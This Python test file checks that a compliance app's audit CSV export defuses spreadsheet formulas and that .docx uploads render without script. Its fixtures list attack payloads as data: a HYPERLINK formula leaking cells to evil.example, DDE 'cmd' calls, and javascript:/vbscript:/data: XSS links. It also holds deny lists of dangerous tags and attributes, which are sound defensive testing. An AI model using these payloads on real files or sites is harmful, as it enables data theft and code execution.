"""End to end: spreadsheet formulas never leave the app live, and no script in an uploaded
.docx ever reaches a reader's browser."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from compliance.documents import services as documents
from compliance.extensions import db
from compliance.users import services as users
from tests.documents.docx_factory import procedure
from tests.factories import effective_document, make_docx
from tests.security.fuzz import FUZZ, PAYLOADS

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.requirement("REQ-SEC-02")
def test_audit_csv_export_neutralises_formulas_typed_into_the_app(client, auth, make_user):
    admin = make_user("admin")
    victim = make_user("staff", name="Plain Name")
    for n, formula in enumerate(FORMULAS):
        users.update_user(
            victim,
            by=admin,
            name=f"{formula} Person {n}",
            roles=["staff"],
            access_valid_from=None,
            access_valid_until=None,
            reason=formula,
        )
    users.deactivate_user(victim, by=admin, reason=FORMULAS[0])
    db.session.commit()
    auth.login(admin.email)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    header, rows = table[0], table[1:]
    reasons = [row[header.index("reason")] for row in rows]
    for formula in FORMULAS:
        assert "'" + formula in reasons, formula
    for row in rows:
        for cell in row:
            if cell and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                assert not cell.startswith(DANGEROUS_START), cell


# --- .docx -> HTML ----------------------------------------------------------------------------

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "link", "meta", "base", "form"}
FORBIDDEN_TAGS |= {"svg", "math", "frame", "frameset", "applet", "template", "noscript"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "background", "poster"}
HOSTILE_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'http://example.invalid/"><script>alert(1)</script>',
    "https://example.invalid/ok",
    "mailto:someone@example.invalid",
]


class _ActiveContent(HTMLParser):
    """Collects anything in a fragment of HTML that a browser could run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower().split(":", 1)[0]
                allowed_data = tag == "img" and re.match(r"data:image/(png|jpeg);", value)
                if scheme in ("javascript", "vbscript") or (scheme == "data" and not allowed_data):
                    self.found.append(f"{tag} {name}={value[:40]}")

    handle_startendtag = handle_starttag


def active_content(page_html: str) -> list[str]:
    match = re.search(r'<article class="document-body[^"]*">(.*)</article>', page_html, re.S)
    assert match, "no rendered document on the page"
    parser = _ActiveContent()
    parser.feed(match.group(1))
    return parser.found


@pytest.fixture
def draft(client, auth, make_user):
    qm = make_user("quality_manager")
    document, _ = effective_document(qm, number="QP-XSS-01")
    revision = documents.add_revision(
        document, data=make_docx("Draft"), filename="draft.docx", change_summary="x", by=qm
    )
    db.session.commit()
    auth.login(qm.email)
    return revision


@pytest.mark.requirement("REQ-SEC-03")
@settings(FUZZ, max_examples=12)
@given(
    texts=st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=60)), max_size=4),
    links=st.dictionaries(
        st.one_of(st.sampled_from(HOSTILE_LINKS), st.text(min_size=1, max_size=40)),
        st.one_of(st.sampled_from(PAYLOADS[:3]), st.just("click me")),
        max_size=4,
    ),
)
def test_html_rendered_from_an_uploaded_docx_never_carries_script(
    client, auth, draft, texts, links
):
    """Upload through the page (replacing the draft's file), then read it as a user would."""
    texts = [t for t in texts if "\x00" not in t and t.isprintable()]
    links = {url: label for url, label in links.items() if url.isprintable() and "\x00" not in url}
    data = procedure(links=links, extra=texts)
    page = f"/revisions/{draft.id}"
    uploaded = auth.post(
        f"{page}/file",
        {"file": (io.BytesIO(data), "hostile.docx")},
        form_page=page,
        content_type="multipart/form-data",
    )
    assert uploaded.status_code == 302
    html = client.get(page).text
    assert active_content(html) == []
    for text in texts:
        if "<script" in text:
            assert "&lt;script" in html  # shown as text, escaped


@pytest.mark.requirement("REQ-SEC-03")
def test_the_checker_itself_finds_active_content():
    sample = (
        '<article class="document-body x"><p onclick="x()">a</p><a href=" JaVa'
        'script:alert(1)">b</a><img src="data:image/png;base64,AA"><script>1</script></article>'
    )
    assert active_content(sample) == ["p onclick=", "a href= JaVascript:alert(1)", "<script>"]
